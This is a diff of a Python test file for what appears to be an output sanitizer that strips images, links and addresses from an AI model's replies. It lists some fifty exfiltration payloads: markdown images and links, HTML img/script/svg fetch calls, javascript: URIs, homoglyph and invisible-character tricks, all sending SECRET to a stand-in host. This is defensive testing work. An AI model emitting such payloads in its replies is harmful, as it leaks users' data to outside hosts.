@@ -1,51 +1,172 @@
-"""What may leave in an answer a model wrote: text and listed links; no image, no other address."""
+"""What a model's reply may hold: text and listed links. Forty ways around that, and prose that must survive."""
+
+import re
+from typing import Any, cast
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from relevo.pipeline.egress import clean
+from relevo.pipeline.egress import Preview, clean
+from relevo.pipeline.state import TurnContext
 
-LINKS = frozenset({"ayuda.example.com"})
+LISTED = ("artists.spotify.com", "musixmatch.com")
+
+ATTACKS = [
+    "![x](https://evil.example/?d=SECRET)",
+    "![](https://evil.example/SECRET.png)",
+    "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
+    "[x][r]\n[r]: <https://evil.example/?d=SECRET>",
+    "[click](https://evil.example/?d=SECRET)",
+    "[click](<https://evil.example/?d=SECRET>)",
+    '[click](https://evil.example/?d=SECRET "title")',
+    "[![x](https://evil.example/SECRET.png)](https://evil.example/SECRET)",
+    "[a [nested] text](https://evil.example/?d=SECRET)",
+    "<https://evil.example/?d=SECRET>",
+    '<img src="https://evil.example/?d=SECRET">',
+    "<img src=//evil.example/SECRET.png>",
+    "<img src=//evil.example/SECRET.png",
+    "<a href='https://evil.example/?d=SECRET'>x</a>",
+    "<<b>img src=https://evil.example/SECRET>",
+    "<script>fetch('https://evil.example/?d=SECRET')</script>",
+    '<svg/onload="fetch(`//evil.example/SECRET`)">',
+    "<style>@import 'https://evil.example/SECRET.css';</style>",
+    "https://evil.example/?d=SECRET",
+    "HTTPS://EVIL.EXAMPLE/?d=SECRET",
+    "xhttps://evil.example/?d=SECRET",
+    "https:/evil.example/?d=SECRET",
+    "https:evil.example/?d=SECRET",
+    "https:\\\\evil.example\\SECRET",
+    "//evil.example/?d=SECRET",
+    "\\\\evil.example\\SECRET",
+    "www.evil.example/?d=SECRET",
+    "evil.example/?d=SECRET",
+    "evil.com",
+    "SECRET.evil.com",
+    "evil.co.uk:8080/SECRET",
+    "203.0.113.7/SECRET",
+    "http://2130706433/SECRET",
+    "http://[::1]/SECRET",
+    "http://[::1",
+    "ftp://evil.example/SECRET",
+    "data:text/html,<script>SECRET</script>",
+    "javascript:alert('SECRET')",
+    "mailto:a@evil.example?body=SECRET",
+    "whatsapp://send?text=SECRET",
+    "https://artists.spotify.com@evil.example/?d=SECRET",
+    "https://artists.spotify.com.evil.example/?d=SECRET",
+    "https://artists.spotify.com\\@evil.example/?d=SECRET",
+    "https://evil.example/https://artists.spotify.com",
+    "http://artists.spotify.com/?d=SECRET",
+    "https://artists.spotify.com:8443/SECRET",
+    "ht[x](y)tps://evil.example/?d=SECRET",
+    "https://evil\u200b.example/?d=SECRET",
+    "ht\u00adtps://evil.example/?d=SECRET",
+    "ｈｔｔｐｓ://evil.example/?d=SECRET",
+    "evil。com/SECRET",
+    "evil．example／SECRET",
+    "https://xn--vil-qma.example/SECRET",
+    "https://еvil.example/SECRET",
+]
+
+PROSE = [
+    "El plan Pro cuesta 49.99 USD al mes; el Label, 99.99.",
+    "Son 1.234.567,89 USD. ¿Los retiramos?",
+    "De 9:00 a 18:00, de lunes a viernes: escríbenos.",
+    "Opciones: a) Pro, b) Label [el más grande] (con todo).",
+    "Tu código es MXABC2600001 y/o el UPC 750100000010.",
+    "Si x < y y además y > z, entonces x <= z. Te queremos <3",
+    "Artista: Ana Luz. Título:Luz de Enero",
+    "Te escribimos a ana.torres@gmail.com en cuanto esté.",
+    "1. Primero\n2. Segundo\n- tercero *con énfasis* y `código`",
+    "Disponible en https://artists.spotify.com/team y en musixmatch.com/pro",
+    "Mira [Spotify for Artists](https://artists.spotify.com/c/access).",
+    "24/7, 3/4 de las regalías; 50% & más… ¡listo! 👩‍👩‍👧 🇲🇽",
+    "Versión 1.2.3, ISRC MX-ABC-26-00001.",
+    "C:sí; D:no. Nota: todo en orden",
+]
 
 
+@pytest.mark.parametrize("attack", ATTACKS)
 @pytest.mark.parametrize(
-    "text",
-    [
-        "![x](https://evil.example/a.png)",
-        "![x][r]\n[r]: https://evil.example/a.png",
-        "[clic](https://evil.example/?d=182.40)",
-        "[clic][r]\n\n[r]: https://evil.example",
-        '<img src="https://evil.example/a">',
-        "<https://evil.example>",
-        "https://evil.example/x",
-        "http://ayuda.example.com/x",
-        "HTTPS://EVIL.EXAMPLE",
-        "www.evil.example/x",
-        "ftp://evil.example",
-        "javascript:alert(1)",
-        "data:text/html;base64,AAAA",
-        "mailto:a@evil.example",
-        "//evil.example/a",
-        "https://ayuda.example.com@evil.example/",
-        "https://ayuda.example.com.evil.example/",
-    ],
+    "around", ["{}", "Claro: {} ¿algo más?", "Hola\n{}\nadiós", "({})", "**{}**", "«{}»"]
 )
-def test_what_could_carry_something_out_is_gone(text: str) -> None:
-    left = clean(f"Hola. {text} Gracias.", LINKS)
-    assert "evil" not in left.lower()
-    assert "http" not in left.lower()
-    assert left.startswith("Hola.")
+def test_no_address_leaves(attack: str, around: str) -> None:
+    text = clean(around.format(attack), LISTED)
+    assert not re.search(
+        r"evil|:/|//|\\\\|www\.|!\[|\]\([^)]|<\w|203\.0|2130706433|\[::1", text, re.IGNORECASE
+    ), text
+    assert clean(text, LISTED) == text
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "El plan Pro cuesta 49.99 USD al mes.",
-        "Horario: 9:00 a 18:00",
-        "Lee https://ayuda.example.com/portadas antes",
-        "Mira [la guía](https://ayuda.example.com/portadas)",
-        "Tu código: MX-ABC-26-00001 (ISRC)",
-        "a < b y c > d no es una etiqueta",
-    ],
-)
-def test_plain_words_and_listed_links_stay(text: str) -> None:
-    assert clean(text, LINKS) == text
+@pytest.mark.parametrize("prose", PROSE)
+def test_prose_and_listed_links_stay_as_they_are(prose: str) -> None:
+    assert clean(prose, LISTED) == prose
+
+
+def test_a_link_that_is_taken_out_leaves_its_words() -> None:
+    assert (
+        clean("Entra [en tu panel](https://evil.example/x) y listo.", LISTED) == "Entra en tu panel y listo."
+    )
+
+
+def test_invisible_text_does_not_leave() -> None:
+    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "SECRET")
+    assert clean(f"Ho\u200bla{hidden}\u202e", LISTED) == "Hola"
+
+
+@given(st.text(alphabet=st.sampled_from("ab.:/\\[]()!<>@ #?\n\u200bｈhtps"), max_size=80))
+def test_no_text_breaks_it_and_twice_is_once(text: str) -> None:
+    once = clean(text, LISTED)
+    assert clean(once, LISTED) == once
+
+
+@pytest.mark.parametrize("unit", ["![", "[", "<a", "a.", "http", "a:", "//", "[x](", "<" * 10, "\\", "a-"])
+def test_a_long_text_made_to_be_slow_comes_through(unit: str) -> None:
+    """Fails by the test's own time limit."""
+    assert len(clean(unit * 4_000, LISTED)) <= len(unit) * 4_000
+
+
+class _Watched:
+    """What a preview publishes."""
+
+    def __init__(self) -> None:
+        self.events: list[tuple[str, dict[str, Any]]] = []
+        self.engine = self
+        self.team = self
+        self.links = LISTED
+
+    def publish(self, kind: str, /, **data: Any) -> None:
+        self.events.append((kind, data))
+
+    @property
+    def text(self) -> str:
+        return "".join(data["text"] for kind, data in self.events if kind == "delta")
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("size", [1, 3, 7, 1000])
+def test_no_address_leaves_in_a_preview(attack: str, size: int) -> None:
+    watched = _Watched()
+    preview = Preview(cast("TurnContext", watched))
+    text = f"Claro: {attack} ¿algo más? sí "
+    for start in range(0, len(text), size):
+        preview.add(text[start : start + size])
+    assert not re.search(r"evil|://|www\.|203\.0|2130706433|\[::1", watched.text, re.IGNORECASE), watched.text
+
+
+def test_a_preview_shows_words_as_they_come() -> None:
+    watched = _Watched()
+    preview = Preview(cast("TurnContext", watched))
+    for piece in ("El plan ", "Pro cuesta", " 49.99 USD al mes. ", "¿Te ayudo "):
+        preview.add(piece)
+    assert watched.text == "El plan Pro cuesta 49.99 USD al mes. ¿Te ayudo "
+
+
+def test_a_withdrawn_preview_says_so_once() -> None:
+    watched = _Watched()
+    preview = Preview(cast("TurnContext", watched))
+    preview.add("uno ")
+    preview.add("")
+    preview.withdraw()
+    assert [kind for kind, _ in watched.events] == ["delta", "reset"]
